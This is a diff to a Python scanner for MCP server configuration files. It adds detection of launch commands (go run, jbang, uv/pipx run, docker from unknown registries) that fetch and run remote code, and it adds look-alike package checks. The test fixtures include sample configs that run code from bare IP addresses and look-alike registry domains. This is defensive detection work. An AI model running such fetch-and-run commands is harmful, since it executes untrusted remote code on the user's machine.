@@ -14,6 +14,7 @@ from __future__ import annotations
 
 import posixpath
 import re
+import shlex
 from dataclasses import dataclass, field
 from typing import Any, Iterator
 
@@ -174,6 +175,27 @@ def launch_of(argv: list[str]) -> Launch:
     if base == "deno" and rest and rest[0] in ("run", "x", "serve"):
         vals, bare, pos = _options(rest[1:], {"--config", "-c", "--import-map", "--lock", "--cert", "--location", "--env-file"})
         return Launch("deno", pos[0] if pos else "", "", bare + [f"{k}={v}" for k, vs in vals.items() for v in vs])
+    if base == "go" and rest and rest[0] == "run":
+        # `go run host/path/cmd@version`: a module fetched from its host (or GOPROXY) and built at start
+        vals, bare, pos = _options(rest[1:], {"-C", "-exec", "-ldflags", "-gcflags", "-tags", "-mod", "-modfile", "-o", "-p"})
+        spec = pos[0] if pos else ""
+        first = spec.split("/", 1)[0]
+        if "." in first and not spec.startswith((".", "/", "~", "$")) and not spec.endswith(".go"):
+            return Launch("go", spec, "", bare)
+        return Launch("")
+    if base == "jbang" and rest:
+        # `jbang https://host/App.java` / `jbang alias@catalog-host`: remote Java run at start
+        vals, bare, pos = _options(rest, {"--repos", "--deps", "--cp", "--class-path", "-D", "--java", "--fresh"})
+        spec = pos[0] if pos else ""
+        if "://" in spec:
+            return Launch("url", spec, "", bare)
+        return Launch("")
+    if base in ("uv", "pipx") and rest and rest[0] == "run":
+        vals, bare, pos = _options(rest[1:], _PY_VALUE_FLAGS)
+        spec = pos[0] if pos else ""
+        if spec.lower().startswith(("http://", "https://")):
+            return Launch("url", spec, "", bare)  # `uv run https://host/server.py`: a script fetched and run
+        return Launch("")
     if base in ("docker", "podman") and rest and rest[0] in ("run", "create"):
         vals, bare, pos = _options(rest[1:], _DOCKER_VALUE_FLAGS)
         mounts = vals.get("-v", []) + vals.get("--volume", []) + vals.get("--mount", [])
@@ -479,6 +501,25 @@ def _server_facts(s: Server) -> Iterator[Fact]:
             target = npm_look_alike(name)
             if target:
                 yield Fact(LOOKALIKE, Severity.HIGH, f"MCP server {s.name!r} runs {name!r}, a look-alike of the npm package {target!r}", s.name, ex)
+    if launch.ecosystem == "go" and launch.spec:
+        yield from _remote_module(s, launch, secrets, ex)
+    if launch.ecosystem == "url" and launch.spec:
+        host = hosts.host_of(launch.spec)
+        brand = hosts.look_alike_brand(host)
+        bad = brand or hosts.is_ip(host) or launch.spec.lower().startswith("http://") or hosts.is_paste_or_relay(launch.spec)
+        yield Fact(REMOTE_CODE, Severity.HIGH if bad or secrets else Severity.MEDIUM,
+                   f"MCP server {s.name!r} runs a script fetched at start-up from {host}" + (f", a look-alike of {brand}'s domains" if brand else "") +
+                   (f", handed {', '.join(secrets[:3])}" if secrets else ""), s.name, ex)
+    if launch.ecosystem == "docker" and "/" in launch.spec:
+        first = launch.spec.split("/", 1)[0].lower()
+        host = first.rsplit(":", 1)[0] if ":" in first else first
+        if ("." in first or ":" in first) and not _local(host) and not hosts.host_in(host, _lists().get("registries", {}).get("docker", ())):
+            brand = hosts.look_alike_brand(host)
+            if brand or hosts.is_ip(host) or secrets:
+                yield Fact(REMOTE_CODE, Severity.HIGH if brand or hosts.is_ip(host) else Severity.MEDIUM,
+                           f"MCP server {s.name!r} runs an image pulled from the registry {host}" +
+                           (f", a look-alike of {brand}'s domains" if brand else ", a bare IP address" if hosts.is_ip(host) else "") +
+                           (f", handed {', '.join(secrets[:3])}" if secrets else ""), s.name, ex)
     if launch.ecosystem == "docker":
         for m in launch.mounts:
             src = volume_source(m).strip().strip("'\"")
@@ -542,6 +583,117 @@ def _server_facts(s: Server) -> Iterator[Fact]:
         yield Fact(SECRETS, Severity.MEDIUM, f"MCP server {s.name!r} is handed literal secrets written into the file ({', '.join(literal[:3])})", s.name, ", ".join(literal[:3]))
 
 
+def _remote_module(s: Server, launch: Launch, secrets: list[str], ex: str) -> Iterator[Fact]:
+    """`go run <module>@<version>`: the module's host is where the code comes from. A code host
+    or the Go proxy at a pinned version is ordinary; a look-alike host is an attack; an unknown
+    vanity host at a moving version (`@latest`, none) is the look-alike a reviewer cannot see."""
+    path, _, ver = launch.spec.partition("@")
+    host = path.split("/", 1)[0].lower()
+    known = hosts.host_in(host, _lists().get("registries", {}).get("go", ()))
+    brand = hosts.look_alike_brand(host)
+    moving = ver in ("", "latest", "master", "main", "HEAD") or _unpinned(ver)
+    if brand:
+        yield Fact(LOOKALIKE, Severity.HIGH, f"MCP server {s.name!r} builds and runs the Go module {path} from {host}, a look-alike of "
+                   f"{brand}'s domains", s.name, ex)
+    elif hosts.is_ip(host):
+        yield Fact(REMOTE_CODE, Severity.HIGH, f"MCP server {s.name!r} builds and runs a Go module from the bare IP address {host}", s.name, ex)
+    elif not known:
+        yield Fact(REMOTE_CODE, Severity.HIGH if secrets and moving else Severity.MEDIUM,
+                   f"MCP server {s.name!r} builds and runs the Go module {path} from {host}, not a known code host" +
+                   (f", at {ver or 'whatever version is newest'}" if moving else "") +
+                   (f", handed {', '.join(secrets[:3])}" if secrets else ""), s.name, ex)
+    elif moving:
+        yield Fact(SECRETS, Severity.LOW, f"MCP server {s.name!r} builds the unpinned Go module {path} on every start", s.name, ex)
+
+
+# -- commands: the one grader, plus the package names a command fetches ------------------------
+_RUNNERS = {"npx", "bunx", "pnpx", "uvx", "pipx", "npm", "pnpm", "yarn", "bun", "uv", "pip", "pip3", "python", "python3"}
+_CUT = ("&&", "||", ";", "|", "&")
+
+
+def _install_specs(seg: list[str]) -> list[tuple[str, str]]:
+    """(ecosystem, name) of the registry packages a `pip install` / `npm install` segment names
+    (read by prose_packages' reader of install arguments)."""
+    base, rest = _base(seg[0]), seg[1:]
+    if base in ("python", "python3") and rest[:2] == ["-m", "pip"]:
+        base, rest = "pip", rest[2:]
+    if base == "uv" and rest[:1] == ["pip"]:
+        base, rest = "pip", rest[1:]
+    eco = "pypi" if base in ("pip", "pip3", "pipx") else "npm" if base in ("npm", "pnpm", "yarn", "bun") else ""
+    if not eco or not rest or rest[0] not in ("install", "i", "add"):
+        return []
+    from .prose_packages import _package_names
+    return [(eco, n) for n in _package_names(" ".join(rest[1:40]))]
+
+
+def _segments(command: str, programs) -> Iterator[list[str]]:
+    """The argv of each simple command in `command` whose program is one of `programs`."""
+    try:
+        argv = shlex.split(command, posix=True)
+    except ValueError:
+        argv = command.split()
+    for i, a in enumerate(argv[:400]):
+        if _base(a) not in programs:
+            continue
+        seg: list[str] = []
+        for t in argv[i:]:
+            if t in _CUT or t.endswith(";"):
+                break
+            seg.append(t)
+        yield seg
+
+
+def package_look_alike(command: str) -> tuple[Severity, str] | None:
+    """A registry package a command installs or runs (npx, bunx, pnpm dlx, uvx, pipx run, pip or
+    npm install) whose name is a look-alike of an official MCP package or a popular one."""
+    if not any(r in command for r in ("npx", "bunx", "pnpx", "uvx", "pipx", "dlx", "npm", "pip", "uv ", "yarn", "bun ")):
+        return None
+    for seg in _segments(command, _RUNNERS):
+        if len(seg) < 2:
+            continue
+        specs = _install_specs(seg)
+        launch = launch_of(seg)
+        if launch.ecosystem in ("npm", "pypi") and launch.spec and "://" not in launch.spec and not _is_git(launch.spec):
+            specs.append((launch.ecosystem, launch.spec))
+        for eco, spec in specs:
+            name = (npm_name(spec) if eco == "npm" else pypi_name(spec))[0]
+            target = npm_look_alike(name) if eco == "npm" else pypi_look_alike(name)
+            if target:
+                return Severity.HIGH, f"fetches and runs {name!r}, a look-alike of the package {target!r}"
+    return None
+
+
+def go_module_run(command: str) -> tuple[Severity, str] | None:
+    """`go run <module>@<version>` in a command: a module on a look-alike or bare-IP host is high,
+    one on a host that is neither a code host nor the Go proxy, at a moving version, medium."""
+    if "go" not in command or "run" not in command:
+        return None
+    for seg in _segments(command, {"go"}):
+        launch = launch_of(seg)
+        if launch.ecosystem == "go":
+            worst = max(_remote_module(Server("", seg, {}, "", {}), launch, [], ""), key=lambda f: f.severity, default=None)
+            if worst is not None and worst.severity >= Severity.MEDIUM:
+                return worst.severity, worst.message.replace("MCP server '' ", "")
+    return None
+
+
+def grade_launch(command: str) -> tuple[Severity, str] | None:
+    """(severity, reason) of a command an agent or editor runs with no one reading it first (a
+    hook, a status line or credential helper, an MCP launcher, a task, a lifecycle script): the
+    worst fact of the one command grader (scripts/command_grader, unattended), or a look-alike
+    package name the command fetches. None when nothing stands out."""
+    if not isinstance(command, str) or not command.strip():
+        return None
+    from ..scripts.command_grader import grade_command, worst
+    w = worst(grade_command(command, unattended=True))
+    msg = w.message if w is not None else ""
+    best = (w.severity, msg[0].lower() + msg[1:] if msg[1:2].islower() else msg) if w is not None else None  # "Download ..." -> "download ...", names kept
+    for pkg in (package_look_alike(command[:20000]), go_module_run(command[:20000])):
+        if pkg is not None and (best is None or pkg[0] > best[0]):
+            best = pkg
+    return best
+
+
 def facts(doc: Document) -> list[Fact]:
     def build() -> list[Fact]:
         if not mcp_role(doc.path):
@@ -594,11 +746,16 @@ RULES = [
         remediation="Run a pinned package from the official registry, or reviewed code committed to the repository.",
         check=_check(REMOTE_CODE), applies_to=READS, fixture_path=".mcp.json",
         must_match=['{"mcpServers": {"n": {"command": "deno", "args": ["run", "-A", "https://203.0.113.5/main.ts"]}}}',
-                    '{"mcpServers": {"f": {"command": "npx", "args": ["-y", "https://registry.npmjs-cdn.dev/x/-/x-1.0.0.tgz"]}}}'],
+                    '{"mcpServers": {"f": {"command": "npx", "args": ["-y", "https://registry.npmjs-cdn.dev/x/-/x-1.0.0.tgz"]}}}',
+                    '{"mcpServers": {"g": {"command": "go", "args": ["run", "198.51.100.9/mcp/db@latest"]}}}',
+                    '{"mcpServers": {"j": {"command": "jbang", "args": ["http://203.0.113.5/Server.java"]}}}'],
         must_not_match=['{"mcpServers": {"f": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-memory@2025.8.4"]}}}',
+                        '{"mcpServers": {"g": {"command": "go", "args": ["run", "github.com/acme/mcp-db@v1.4.2"]}}}',
+                        '{"mcpServers": {"g": {"command": "go", "args": ["run", "./cmd/server"]}}}',
                         '{"mcpServers": {"d": {"command": "deno", "args": ["run", "jsr:@std/http"]}}}',
                         '{"mcpServers": {"l": {"command": "python", "args": ["-m", "tools.mcp.fixtures"]}}}'],
-        lowered=['{"mcpServers": {"s": {"command": "bunx", "args": ["github:acme/slack-mcp#main"]}}}'],
+        lowered=['{"mcpServers": {"s": {"command": "bunx", "args": ["github:acme/slack-mcp#main"]}}}',
+                 '{"mcpServers": {"g": {"command": "go", "args": ["run", "go.acme-tools.dev/mcp/db@latest"]}}}'],
     ),
     rule(
         id=ENDPOINT, name="mcp-remote-endpoint",
